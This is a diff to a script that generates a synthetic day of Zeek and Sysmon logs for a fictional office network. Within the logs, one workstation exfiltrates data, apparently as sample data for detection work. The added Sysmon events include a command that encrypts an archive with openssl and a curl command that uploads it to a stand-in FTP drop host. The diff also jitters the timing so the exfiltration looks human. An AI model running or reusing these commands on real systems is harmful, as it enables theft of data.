@@ -1,6 +1,8 @@
 // Writes samples/: a small, deterministic day of Zeek logs from a made-up office network (10.20.0.0/16) in
 // which one workstation exfiltrates — Base64-encoded ciphertext in HTTP URIs and large FTP uploads — among
-// ordinary web, DNS, mail and file-server traffic. Run with `npm run samples`; output is identical every run.
+// ordinary web, DNS, mail and file-server traffic, plus that workstation's Sysmon log (as `wevtutil qe /f:xml`
+// exports it) showing the archive being encrypted, staged and sent. Run with `npm run samples`; output is
+// identical every run.
 import { createHash } from 'node:crypto';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -54,7 +56,8 @@ connRows.push(conn(DAY + 5_400, '10.20.1.12', '10.20.0.40', 445, 95 * MB, 1 * MB
 
 // The exfiltration: AES ciphertext, Base64-encoded, in the query string of many GETs to one server…
 for (let i = 0; i < 25; i++) {
-  const ts = DAY + 7_200 + i * 45;
+  // Human-paced, not a timer: 20–70 s apart.
+  const ts = DAY + 7_200 + i * 45 + (bytes(`gap${i}`, 1)[0]! % 50) - 25;
   const chunk = bytes(`exfil${i}`, 180).toString('base64');
   connRows.push(conn(ts, exfilHost, dropHost, 80, 560, 300));
   httpRows.push(httpRequest(ts, exfilHost, dropHost, 'GET', 'updates.example-cdn.net', `/v2/telemetry?id=${i}&blob=${encodeURIComponent(chunk)}`, 0, 'Mozilla/5.0'));
@@ -71,4 +74,29 @@ writeFileSync(join(out, 'conn.log'), zeekTsv('conn', CONN_COLUMNS, connRows));
 // The same HTTP log as Zeek JSON lines, gzipped, as sites that ship logs to a SIEM keep them.
 const httpJson = httpRows.map((row) => JSON.stringify({ ...row, ts: Number(row.ts) })).join('\n') + '\n';
 writeFileSync(join(out, 'http.json.log.gz'), gzipSync(httpJson, { level: 9, mtime: 0 } as never));
-process.stdout.write(`wrote ${connRows.length} conn rows and ${httpRows.length} http rows to ${out}\n`);
+
+/** One Sysmon event as `wevtutil qe … /f:xml` writes it (values XML-escaped). */
+function sysmonEvent(id: number, record: number, ts: number, data: Record<string, string>): string {
+  const xml = (v: string): string => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/'/g, '&apos;').replace(/"/g, '&quot;');
+  const time = new Date(ts * 1000).toISOString();
+  const fields = Object.entries({ RuleName: '-', UtcTime: time.replace('T', ' ').replace('Z', ''), ...data })
+    .map(([name, value]) => `<Data Name='${name}'>${xml(value)}</Data>`).join('');
+  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${time.replace('Z', '0000Z')}'/><EventRecordID>${record}</EventRecordID><Correlation/><Execution ProcessID='3112' ThreadID='4012'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws17.corp.example</Computer><Security UserID='S-1-5-18'/></System><EventData>${fields}</EventData></Event>`;
+}
+
+const shell = { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000001a00}', ProcessId: '6120', Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe' };
+const openssl = '"C:\\Program Files\\OpenSSL-Win64\\bin\\openssl.exe" enc -aes-256-cbc -salt -pbkdf2 -in C:\\Users\\alice\\Documents\\q4-ledger.7z -out C:\\Users\\alice\\Documents\\exfil\\q4.enc -pass pass:Winter2025!';
+const curl = 'curl.exe -s -T C:\\Users\\alice\\Documents\\exfil\\q4.enc ftp://198.51.100.23/in/ --user drop:drop';
+const parent = { ParentProcessGuid: shell.ProcessGuid, ParentProcessId: shell.ProcessId, ParentImage: shell.Image, ParentCommandLine: shell.CommandLine };
+const sysmon = [
+  // Ordinary activity first: a browser and an editor, so the log is not only the attack.
+  sysmonEvent(1, 4101, DAY + 600, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000001000}', ProcessId: '4424', Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', CommandLine: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"', CurrentDirectory: 'C:\\Users\\alice\\', User: 'CORP\\alice', Hashes: 'SHA256=' + bytes('ff', 32).toString('hex').toUpperCase(), ParentProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000000100}', ParentProcessId: '4100', ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE' }),
+  sysmonEvent(11, 4102, DAY + 1800, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000001100}', ProcessId: '5010', Image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', TargetFilename: 'C:\\Users\\alice\\Documents\\q4-ledger.xlsx', CreationUtcTime: new Date((DAY + 1800) * 1000).toISOString().replace('T', ' ').replace('Z', ''), User: 'CORP\\alice' }),
+  // The staging: encrypt the archive into the exfil folder, then send it over FTP.
+  sysmonEvent(1, 4201, DAY + 8_700, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002200}', ProcessId: '7332', Image: 'C:\\Program Files\\OpenSSL-Win64\\bin\\openssl.exe', CommandLine: openssl, CurrentDirectory: 'C:\\Users\\alice\\Documents\\', User: 'CORP\\alice', Hashes: 'SHA256=' + bytes('openssl', 32).toString('hex').toUpperCase(), ...parent }),
+  sysmonEvent(11, 4202, DAY + 8_760, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002200}', ProcessId: '7332', Image: 'C:\\Program Files\\OpenSSL-Win64\\bin\\openssl.exe', TargetFilename: 'C:\\Users\\alice\\Documents\\exfil\\q4.enc', CreationUtcTime: new Date((DAY + 8_760) * 1000).toISOString().replace('T', ' ').replace('Z', ''), User: 'CORP\\alice' }),
+  sysmonEvent(1, 4203, DAY + 8_990, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002300}', ProcessId: '7410', Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: curl, CurrentDirectory: 'C:\\Users\\alice\\Documents\\', User: 'CORP\\alice', Hashes: 'SHA256=' + bytes('curl', 32).toString('hex').toUpperCase(), ...parent }),
+  sysmonEvent(3, 4204, DAY + 9_000, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002300}', ProcessId: '7410', Image: 'C:\\Windows\\System32\\curl.exe', User: 'CORP\\alice', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: exfilHost, SourceHostname: 'ws17.corp.example', SourcePort: String(connRows.find((r) => Number(r.ts) === DAY + 9_000)?.['id.orig_p'] ?? 50000), SourcePortName: '-', DestinationIsIpv6: 'false', DestinationIp: ftpDrop, DestinationHostname: '-', DestinationPort: '21', DestinationPortName: 'ftp' }),
+];
+writeFileSync(join(out, 'sysmon-ws17.xml'), sysmon.join('\n') + '\n');
+process.stdout.write(`wrote ${connRows.length} conn rows, ${httpRows.length} http rows and ${sysmon.length} Sysmon events to ${out}\n`);
